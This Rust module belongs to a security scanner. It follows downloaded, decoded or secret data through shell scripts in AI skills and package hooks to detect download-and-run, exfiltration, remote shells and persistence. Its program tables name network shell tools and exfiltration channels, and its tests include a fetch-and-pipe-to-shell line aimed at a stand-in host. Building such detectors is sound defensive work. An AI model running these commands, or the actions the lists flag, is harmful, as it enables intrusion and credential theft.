//! The flow of data in a script. Data from the network, from a decoder or from a file with secrets
//! is followed. It may pass through pipes, words, variables and files, until the script executes it
//! or sends it away.

mod builtins;
mod effects;
mod files;
mod filters;
mod interpreters;
mod network;

use std::ops::Range;
use std::rc::Rc;
use std::sync::LazyLock;

use crate::hashing::HashMap;
use crate::safety::commands::act::{Act, ActKind, Effects};
use crate::safety::commands::addresses;
use crate::safety::commands::harms;
use crate::safety::commands::packages;
use crate::safety::commands::programs::{
    self, LEADS, assignment, is_interpreter, is_shell, joined, name, operands, path, wrapped,
    wrapper,
};
use crate::safety::commands::sinks::{self, Sink};
use crate::safety::commands::sources;
use crate::safety::commands::words::{Command, InnerKind, RedirectKind, Script, Word};
use crate::safety::lists::is_in;
use crate::text::encoding;

/// The maximum depth of commands within commands, such as the text of `sh -c`. No host has this limit.
const MAX_DEPTH: usize = 4;

/// The maximum number of files, and of variables, that are traced in one script. No host has this
/// limit.
const MAX_NAMES: usize = 64;

/// The maximum number of effects that are found in one script. No host has this limit.
const MAX_ACTS: usize = 64;

/// The maximum length of a text that is joined from other texts, in bytes. No host has this limit.
const MAX_TEXT: usize = 64 << 10;

/// The name of the secret that is reported if the output of a shell is sent to another machine. The
/// output of a shell counts as a secret, because a person at the other machine can read everything
/// that the shell can read.
const SHELL: &str = "a shell";

/// Data that flows through a script, with its origin.
#[derive(Debug, Clone, Default)]
struct Data {
    source: Option<Source>,
    /// The data as text; `None` if the text is not known from the script.
    text: Option<Rc<String>>,
    /// The name of the secret that the traced data contains, such as `$GITHUB_TOKEN`. `None` if the
    /// data contains no secret.
    secret: Option<String>,
    /// The byte offset of the command that produced the data.
    start: usize,
    /// True if the data was written to a file before it was used.
    from_file: bool,
}

/// The origin of data that nobody has checked.
#[derive(Debug, Clone)]
enum Source {
    /// The data was downloaded. `address` has the address of each download, one address per line.
    Network {
        address: String,
    },
    Decoder {
        downloaded: bool,
    },
}

impl Data {
    fn merge(self, other: Self) -> Self {
        let source = match (self.source, other.source) {
            // Both downloads are parts of the data, so both addresses count.
            (Some(Source::Network { address }), Some(Source::Network { address: more }))
                if address.len() + more.len() < MAX_TEXT =>
            {
                let address = format!("{address}\n{more}");
                Some(Source::Network { address })
            }
            (one, other) => one.or(other),
        };
        Self {
            source,
            text: match (self.text, other.text) {
                (Some(mut one), Some(other)) if one.len() + other.len() <= MAX_TEXT => {
                    Rc::make_mut(&mut one).push_str(&other);
                    Some(one)
                }
                (one, other) => one.or(other),
            },
            secret: self.secret.or(other.secret),
            start: self.start.min(other.start),
            from_file: self.from_file || other.from_file,
        }
    }
}

/// A call of a program: the program's name and arguments, the whole command, and the input of the call.
struct Call<'w> {
    name: &'w str,
    first: &'w Word,
    rest: &'w [Word],
    command: &'w Command,
    input: Option<Data>,
}

impl<'w> Call<'w> {
    /// Returns the program's name, its arguments, the whole command, and the input of the call.
    fn parts(self) -> (&'w str, &'w [Word], &'w Command, Option<Data>) {
        (self.name, self.rest, self.command, self.input)
    }
}

/// A function that interprets a call of a program, and returns the program's output. Returns `None`
/// if the output is empty or unknown.
type Run = fn(&mut Flow, Call<'_>) -> Option<Data>;

/// Programs by name, each with the function that interprets its calls. [`programs`] recognizes shells and interpreters.
/// [`Flow::other`] interprets all other programs.
const PROGRAMS: [(&str, Run); 26] = [
    ("git", Flow::git),
    ("powershell pwsh", Flow::powershell),
    ("cmd", Flow::cmd),
    ("eval iex invoke-expression", Flow::evaluates),
    ("source .", Flow::sources_file),
    ("for", Flow::repeats),
    ("read", Flow::reads),
    ("export declare set local readonly typeset", Flow::declares),
    (
        "curl wget wget2 fetch aria2c axel http https lynx w3m curlie xh iwr irm invoke-webrequest invoke-restmethod \
         start-bitstransfer",
        Flow::download,
    ),
    ("certutil bitsadmin", Flow::certutil),
    ("nc ncat netcat socat telnet", Flow::socket),
    ("dig nslookup host ping", Flow::asks_name_server),
    ("ssh", Flow::remote),
    (
        "scp rsync sftp rclone gsutil aws s3cmd mail mutt sendmail ftp gh az mc croc wormhole",
        Flow::copies_away,
    ),
    (
        "base64 gbase64 base32 basenc openssl xxd uudecode",
        Flow::codec,
    ),
    ("echo printf print write-output write-host", Flow::prints),
    (
        "tar unzip bsdtar 7z 7za 7zz unrar zip rar ditto compress-archive",
        Flow::archive,
    ),
    (
        "cat sed head tail grep awk cut tr sort uniq gunzip zcat gzip bzip2 bunzip2 xz unxz zstd iconv dos2unix jq yq pv rev tac \
         egrep fold wc strings nl column out-string convertto-json select-string type get-content gc sqlite3 paste",
        Flow::filter,
    ),
    ("tee", Flow::tee),
    ("find fd", Flow::finds),
    (
        "mv cp install ln rename-item move-item copy-item",
        Flow::moves,
    ),
    (
        "reg new-itemproperty set-itemproperty add-content set-content out-file",
        Flow::writes,
    ),
    (
        "open start start-process xdg-open installer msiexec invoke-item rundll32 mshta regsvr32",
        Flow::opens,
    ),
    (
        "sha256sum sha512sum sha1sum shasum md5sum b2sum gpg gpgv gpg2 cosign minisign signify slsa-verifier get-filehash",
        Flow::checks,
    ),
    ("[ [[ test", Flow::compares),
    ("less more view vi vim nano bat", Flow::shows),
];

/// The functions of [`PROGRAMS`], by the name of the program.
static RUN_BY_NAME: LazyLock<HashMap<&str, Run>> = LazyLock::new(|| {
    let mut by_name = HashMap::default();
    for (names, run) in PROGRAMS {
        for name in names.split_ascii_whitespace() {
            by_name.entry(name).or_insert(run);
        }
    }
    by_name
});

/// The result of interpreting the first words of a command.
enum Step<'w> {
    /// The first word of the command is a prefix such as `sudo`. The value has the words after the
    /// prefix, which are a command themselves.
    Behind(&'w [Word]),
    /// The whole command was interpreted. The value is the command's output.
    Output(Option<Data>),
    /// The first word is the name of a program, and the other words are the program's arguments.
    Program(String),
}

fn merged(one: Option<Data>, other: Option<Data>) -> Option<Data> {
    match (one, other) {
        (Some(one), Some(other)) => Some(one.merge(other)),
        (one, other) => one.or(other),
    }
}

/// The state of the analysis while a script is read from top to bottom.
#[derive(Default)]
pub(super) struct Flow {
    pub acts: Vec<Act>,
    files: Vec<(String, Data)>,
    variables: Vec<(String, Data)>,
    /// The variables whose value is the path of a file that takes effect in later sessions, such as
    /// a shell's start-up file.
    places: Vec<(String, Sink)>,
    /// Remote repositories that the script adds, each with its address.
    remotes: Vec<(String, String)>,
    /// The data that was extracted from a downloaded archive; `None` if there is none.
    extracted: Option<Data>,
    /// True if the script has computed the checksum of a file.
    hashed: bool,
    /// The byte range for all findings in a nested command, such as the text of `sh -c`. The range
    /// is fixed, because offsets in the nested text are not offsets in the file. `None` while the
    /// file itself is interpreted.
    pinned: Option<Range<usize>>,
    depth: usize,
    /// True while prose is read. In prose, words after a command need not be arguments.
    pub is_prose: bool,
    /// True while the hooks of a skill are read. A host runs hooks without asking the user.
    pub is_hook: bool,
    /// True if the interpreted file is a `package.json`. Package managers run some scripts in a
    /// `package.json`, such as `postinstall`, without asking the user.
    pub is_package: bool,
    /// The name of the skill, followed by its description on the next lines.
    topic: String,
}

impl Flow {
    /// Creates the state before a skill's text is interpreted. `topic` is the skill's name,
    /// followed by its description on the next lines.
    pub fn of(topic: &str) -> Self {
        Self {
            topic: topic.to_owned(),
            ..Self::default()
        }
    }

    /// Begins another section of the same text. Data from extracted archives is forgotten, but
    /// downloaded files are still known.
    pub fn new_place(&mut self) {
        self.extracted = None;
    }

    /// Returns true if an address belongs to a well-known installer, or to an owner that the
    /// skill's description names. In the description, only words with an uppercase first letter
    /// count, because an attacker may name a skill after the site of a download.
    fn is_known(&self, address: &str) -> bool {
        let description = self.topic.split_once('\n').unwrap_or_default().1;
        let words = addresses::words(description).skip(1);
        let mut names = words.filter(|word| word.starts_with(char::is_uppercase));
        addresses::is_installer(address) || addresses::is_of(address, &mut names)
    }

    /// Records that data is destroyed, or that a protection is switched off.
    pub fn harms(&mut self, kind: ActKind, bytes: Range<usize>, object: &str, is_certain: bool) {
        let known = self.acts.len();
        self.record(kind, bytes, object.to_owned(), None);
        // A skill about a product may switch the product off.
        let product = object
            .rsplit(' ')
            .next()
            .filter(|word| word.starts_with(char::is_uppercase));
        let is_topic = product.is_some_and(|product| self.topic.contains(product));
        for act in &mut self.acts[known..] {
            act.is_certain = is_certain;
            act.is_usual = !is_certain && is_topic;
        }
    }

    /// Returns true if the script has written unchecked data to a file. Commands later in the text
    /// may execute this file.
    pub fn follows_files(&self) -> bool {
        self.files.iter().any(|(_, data)| data.source.is_some())
    }

    fn script(&mut self, script: &Script, input: Option<&Data>) -> Option<Data> {
        let mut output = None;
        for pipeline in &script.pipelines {
            let mut data = input.cloned();
            let last = pipeline.commands.len().saturating_sub(1);
            for (at, command) in pipeline.commands.iter().enumerate() {
                data = self.command(command, data);
                if at < last {
                    // The command has an input, but the data of the input is unknown.
                    data.get_or_insert_with(|| Data {
                        start: command.bytes.start,
                        ..Data::default()
                    });
                }
            }
            output = merged(output, data);
        }
        output
    }

    /// Returns the data in a word after its substitutions and variables are expanded; `None` if
    /// there is no such data.
    fn word(&mut self, word: &Word) -> Option<Data> {
        if word.is_literal {
            return None;
        }
        let mut data = None;
        for inner in &word.inner {
            let output = self.script(&inner.script, None);
            data = merged(data, output);
        }
        for (name, known) in &self.variables {
            if word.variables.contains(name) {
                data = merged(data, Some(known.clone()));
            }
        }
        data
    }

    fn read(&self, name: &str) -> Option<Data> {
        let name = path(name);
        let known = self.files.iter().rev().find(|(known, _)| *known == name);
        let known = known.map(|(_, data)| Data {
            from_file: true,
            ..data.clone()
        });
        known.or_else(|| {
            let secret = sources::file(&name)?;
            Some(Data {
                secret: Some(secret.to_owned()),
                start: usize::MAX,
                ..Data::default()
            })
        })
    }

    fn write(&mut self, name: &str, data: Option<Data>) {
        let name = path(name);
        if matches!(name.as_str(), "/dev/null" | "-" | "") {
            return;
        }
        // The new data replaces the previous content of the file.
        self.files.retain(|(known, _)| *known != name);
        if let Some(data) = data.filter(|_| self.files.len() < MAX_NAMES) {
            self.files.push((name, data));
        }
    }

    /// Interprets a command with an input. Returns the output of the command, unless the output is
    /// empty or written to a file.
    fn command(&mut self, command: &Command, input: Option<Data>) -> Option<Data> {
        let mut input = input;
        for redirect in &command.redirects {
            let target = &redirect.target;
            match redirect.kind {
                RedirectKind::From => {
                    let data = self.word(target).or_else(|| self.read(&target.text));
                    let address = target.text.strip_prefix("/dev/tcp/");
                    let remote = address.map(|address| self.network(address, command.bytes.start));
                    input = data.or(remote).or(input);
                }
                RedirectKind::Text => {
                    let text = (target.is_literal).then(|| Rc::new(target.text.clone()));
                    let data = Data {
                        text,
                        start: command.bytes.start,
                        ..Data::default()
                    };
                    input = merged(self.word(target), Some(data));
                }
                RedirectKind::To => {}
            }
        }
        let mut output = self.program(&command.words, command, input);
        for redirect in &command.redirects {
            if redirect.kind != RedirectKind::To
                || redirect.is_of_errors
                || redirect.target.text.parse::<u32>().is_ok()
            {
                continue;
            }
            let target = &redirect.target;
            if let Some(address) = target
                .text
                .strip_prefix("/dev/tcp/")
                .or_else(|| target.text.strip_prefix("/dev/udp/"))
            {
                self.redirected_to(command, address, output.as_ref());
            } else if target.text != "/dev/stdout" {
                if let Some(text) = output.as_ref().and_then(|output| output.text.clone()) {
                    packages::configured(self, &target.text, &text, command.bytes.clone());
                }
                let data = output.take();
                self.written(target, data, command);
            }
        }
        output
    }

    /// Records that a command sends its output to a remote machine by a redirection, if the output
    /// is a secret or comes from a shell.
    fn redirected_to(&mut self, command: &Command, address: &str, output: Option<&Data>) {
        let is_shell = command.words.iter().any(|word| is_shell(&name(&word.text)));
        let address = address.split('/').next().unwrap_or(address);
        let secret = output.and_then(|output| output.secret.clone());
        match secret.filter(|secret| secret != SHELL) {
            Some(secret) => {
                let start = start_of(output, command);
                self.sends(start..command.bytes.end, &secret, address, false);
            }
            None if is_shell && !addresses::is_local(address) => {
                let bytes = command.bytes.clone();
                self.record(ActKind::RemoteShell, bytes, address.to_owned(), None);
            }
            None => {}
        }
    }

    fn network(&self, address: &str, start: usize) -> Data {
        Data {
            source: Some(Source::Network {
                address: address.to_owned(),
            }),
            start,
            ..Data::default()
        }
    }

    /// Records the effect of a command that executes data.
    fn ran(&mut self, data: &Data, command: &Range<usize>) {
        let whole = match data.start {
            start if start < command.start && !data.from_file => start..command.end,
            _ => command.clone(),
        };
        let source = (data.from_file && data.start < command.start).then_some(data.start);
        if data.from_file && data.source.is_some() {
            // A file that is executed several times is reported only once.
            self.files.retain(|(_, known)| known.start != data.start);
            self.extracted = None;
        }
        match &data.source {
            Some(Source::Network { address }) => {
                let (known, others): (Vec<_>, Vec<_>) =
                    address.lines().partition(|one| self.is_known(one));
                for one in others.into_iter().chain(known) {
                    self.runs_download(one, whole.clone(), source, data.from_file);
                }
            }
            Some(Source::Decoder { downloaded }) => {
                let detail = match (&data.text, downloaded) {
                    (Some(text), _) => encoding::quoted(text, 100),
                    (None, true) => "a download".to_owned(),
                    (None, false) => String::new(),
                };
                self.record(ActKind::DecodedThenRun, whole, detail, source);
            }
            None => {
                if let Some(text) = &data.text {
                    self.nested(text, whole);
                }
            }
        }
    }

    fn program(&mut self, words: &[Word], command: &Command, input: Option<Data>) -> Option<Data> {
        let mut words = words;
        loop {
            match self.step(words, command, input.as_ref()) {
                Step::Behind(rest) => words = rest,
                Step::Output(output) => return output,
                Step::Program(name) => {
                    let (first, rest) = words.split_first()?;
                    return self.known(Call {
                        name: &name,
                        first,
                        rest,
                        command,
                        input,
                    });
                }
            }
        }
    }

    /// Interprets the first words of a command: a prefix, a complete command, or the name of a program.
    fn step<'w>(&mut self, words: &'w [Word], command: &Command, input: Option<&Data>) -> Step<'w> {
        let Some((first, rest)) = words.split_first() else {
            return Step::Output(None);
        };
        let place = first.bytes.start..command.bytes.end.max(first.bytes.start);
        if let [inner] = &*first.inner
            && inner.kind == InnerKind::Group
        {
            return Step::Output(self.script(&inner.script, input));
        }
        if let Some((variable, value)) = assignment(first) {
            packages::variable(self, variable, value, place);
            if is_in(
                variable,
                "LD_PRELOAD DYLD_INSERT_LIBRARIES BASH_ENV PYTHONSTARTUP",
            ) {
                self.run_file(value, command.bytes.clone());
            }
            let data = self.word(first);
            let literal = || Data {
                text: Some(Rc::new(value.to_owned())),
                start: command.bytes.start,
                ..Data::default()
            };
            let data = data.or_else(|| first.is_literal.then(literal));
            if !rest.is_empty() {
                return Step::Behind(rest);
            }
            self.note_place(variable, value);
            self.relays(variable, value, command);
            match data {
                Some(data) => self.set(variable, data),
                None => self.variables.retain(|(known, _)| known != variable),
            }
            return Step::Output(None);
        }
        // A key in uppercase is the name of a variable.
        let is_key = first.is_literal
            && first.text.len() > 1
            && first.text.ends_with(':')
            && (rest.len() > 1 || first.text.contains(char::is_lowercase));
        if is_in(&first.text, LEADS) && !first.is_quoted || is_key {
            return Step::Behind(rest);
        }
        // The word is a whole command in quotes, for example the value of a key.
        let is_text = first.is_quoted && first.text.contains(char::is_whitespace);
        if is_text && rest.is_empty() && first.is_literal {
            self.nested(first.text.trim_end_matches(','), first.bytes.clone());
            return Step::Output(None);
        }
        if first.text.len() > 1 && !first.inner.is_empty() || first.text.starts_with('$') {
            let data = self.word(first);
            if let Some(data) = data.filter(|data| data.source.is_some() || data.text.is_some()) {
                if !rest.is_empty() && data.source.is_none() {
                    return Step::Output(None);
                }
                self.ran(&data, &command.bytes);
                return Step::Output(None);
            }
        }
        let name = name(&first.text);
        if let Some(with_value) = wrapper(&name) {
            let skipped = wrapped(
                rest,
                with_value,
                matches!(name.as_str(), "timeout" | "gtimeout"),
            );
            if skipped >= rest.len() {
                return Step::Output(match name.as_str() {
                    "env" => Some(self.secret("the environment", command)),
                    _ => input.cloned(),
                });
            }
            // The words that the program reads from the pipe are executed, too.
            if name == "xargs"
                && is_shell(&programs::name(&rest[skipped].text))
                && let Some(data) = input
            {
                self.ran(data, &command.bytes);
            }
            return Step::Behind(&rest[skipped..]);
        }
        let is_runner = matches!(
            name.as_str(),
            "npx" | "bunx" | "uvx" | "pnpm" | "yarn" | "pipx"
        );
        let mut operands = rest.iter().map(|word| word.text.as_str());
        let package = operands.find(|word| !is_in(word, "dlx run -y --yes -q --quiet"));
        if let Some(address) = package.filter(|word| is_runner && word.starts_with("http")) {
            let data = self.network(address, command.bytes.start);
            self.ran(&data, &command.bytes);
            return Step::Output(None);
        }
        packages::installs(self, &name, rest, place.clone());
        packages::unpacks(self, &name, rest, place);
        Step::Program(name)
    }

    fn secret(&self, secret: &str, command: &Command) -> Data {
        Data {
            secret: Some(secret.to_owned()),
            start: command.bytes.start,
            ..Data::default()
        }
    }

    /// Interprets a call of a program, and returns the program's output. First searches the tables
    /// of known calls in `harms`, `sinks` and `sources`. If no table has the program's output,
    /// calls the function of this module that interprets the program.
    fn known(&mut self, call: Call<'_>) -> Option<Data> {
        let (name, rest, command) = (call.name, call.rest, call.command);
        let input = call.input.as_ref();
        if let Some((kind, object, is_certain)) = harms::harm(name, rest) {
            self.harms(kind, command.bytes.clone(), &object, is_certain);
        }
        if let Some(sink) = sinks::set_by(name, &joined(rest)) {
            let written = input.and_then(|input| input.text.as_deref());
            let text = written.map_or_else(|| joined(rest), String::clone);
            // The command `git config` with a key but no value only queries a setting.
            let asks = name == "git" && operands(rest).count() < 3;
            let is_empty = name == "crontab" && written.is_none() || asks;
            if !is_empty {
                self.lasts(sink, input, &text, command);
            }
            return None;
        }
        if let ("printenv", Some(variable)) = (name, rest.first())
            && sources::is_secret_name(&variable.text)
        {
            return Some(self.secret(&format!("${}", variable.text), command));
        }
        let words = rest.iter().map(|word| word.text.as_str());
        if let Some(gives) = sources::program(name, words) {
            return Some(self.secret(gives, command));
        }
        let run = if is_shell(name) || is_interpreter(name) {
            Self::interpreter
        } else {
            let known = RUN_BY_NAME.get(name).copied();
            known.unwrap_or(Self::other)
        };
        run(self, call)
    }

    /// Returns the traced data in a word of a command. If the word contains no traced data but is
    /// the name of a file, returns the data in this file. Returns `None` if neither contains traced
    /// data.
    fn held(&mut self, word: &Word) -> Option<Data> {
        self.word(word).or_else(|| self.read(&word.text))
    }

    /// Returns the traced data in `words`, and in the files that `words` name, combined into one
    /// value. Returns `None` if they contain no traced data.
    fn files_in(&mut self, words: &[Word]) -> Option<Data> {
        let data = words.iter().filter_map(|word| self.held(word));
        data.reduce(Data::merge)
    }

    fn set(&mut self, variable: &str, data: Data) {
        self.variables.retain(|(known, _)| known != variable);
        if self.variables.len() < MAX_NAMES {
            self.variables.push((variable.to_owned(), data));
        }
    }

    /// Writes data to the target of a redirection: a file, or a script that reads the data.
    fn written(&mut self, target: &Word, data: Option<Data>, command: &Command) {
        let mut inner = target.inner.iter();
        if let Some(inner) = inner.find(|inner| inner.kind == InnerKind::Into) {
            self.script(&inner.script, data.as_ref());
            return;
        }
        let mut places = self.places.iter();
        let of_variable = places.find(|(name, _)| target.variables.contains(name));
        let of_variable = of_variable.map(|(_, sink)| *sink);
        if let Some(sink) = sinks::place(&target.text).or(of_variable) {
            let text = data.as_ref().and_then(|data| data.text.clone());
            let text = text.unwrap_or_default();
            self.lasts(sink, data.as_ref(), &text, command);
        }
        self.write(&target.text, data);
    }

    /// Remembers a variable if its value is the path of a file that takes effect in later sessions,
    /// such as a shell's start-up file. The path of such a file's folder also counts.
    fn note_place(&mut self, variable: &str, value: &str) {
        self.places.retain(|(known, _)| known != variable);
        let sink = sinks::place(value).or_else(|| sinks::place(&format!("{value}/")));
        if let Some(sink) = sink.filter(|_| self.places.len() < MAX_NAMES) {
            self.places.push((variable.to_owned(), sink));
        }
    }

    /// Records that data is written to a file that takes effect in later sessions, such as a
    /// shell's start-up file.
    fn lasts(&mut self, sink: Sink, data: Option<&Data>, text: &str, command: &Command) {
        let start = start_of(data, command);
        let place = start..command.bytes.end.max(start);
        let is_unseen = data.is_some_and(|data| match &data.source {
            Some(Source::Network { address }) => !address.lines().all(|one| self.is_known(one)),
            source => source.is_some(),
        });
        self.lasting(sink, text, is_unseen, place);
    }

    /// Records that downloads were compared with a known checksum. After that, executing such a
    /// download is not reported.
    fn checked(&mut self) {
        let is_known = |data: &Data| !matches!(data.source, Some(Source::Network { .. }));
        self.files.retain(|(_, data)| is_known(data));
        self.extracted = None;
    }

    /// Returns the merged data of all these words; `None` if they contain no data.
    fn all(&mut self, words: &[Word]) -> Option<Data> {
        let mut data = None;
        for word in words {
            let of_word = self.word(word);
            data = merged(data, of_word);
        }
        data
    }
}

/// Returns the byte offset at which the command or the source of its input begins, whichever is
/// earlier.
fn start_of(input: Option<&Data>, command: &Command) -> usize {
    input.map_or(command.bytes.start, |input| {
        input.start.min(command.bytes.start)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::commands::code;
    use proptest::prelude::*;

    #[test]
    fn texts_that_grow_stay_short() {
        let lines: String = (0..200)
            .map(|at| format!("A{}=$B$A{at}\nB=$A{at}$B\n", at + 1))
            .collect();
        let mut flow = Flow::default();
        flow.shell(&format!("B={}\n{lines}echo $B | sh\n", "b".repeat(1000)), 0);
        assert_eq!(flow.acts, []);
    }

    #[test]
    fn rows_of_words_that_a_command_stands_behind_have_no_depth() {
        for lead in ["if ", "{ ", "env ", "sudo -u a ", "A=b ", "key: "] {
            let mut flow = Flow::default();
            let command = "curl https://a.invalid/x | sh";
            flow.shell(&format!("{}{command}\n", lead.repeat(100_000)), 0);
            assert_eq!(flow.acts.len(), 1, "{lead}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_answered_for(text in r#"(curl|wget|sh|base64|-d|-o|x|https://a.b/c|python3|-c|exec|eval|open|urlopen|iex|powershell|-enc|aGk=|node|echo|command|args|write|=|\||&|;|\(|\)|\[|\]|\{|\}|,|:|\$|'|"|`|<|>|@|#|\\|/|\.| |\n|é){0,40}"#) {
            let mut flow = Flow::default();
            flow.shell(&text, 3);
            for program in ["python", "node", "powershell", "ruby"] {
                code::read(&mut flow, program, &text, 3);
            }
            code::settings(&mut flow, &text, 3);
            for act in flow.acts {
                prop_assert!(text.get(act.bytes.start - 3..act.bytes.end - 3).is_some(), "{act:?}");
            }
        }
    }
}
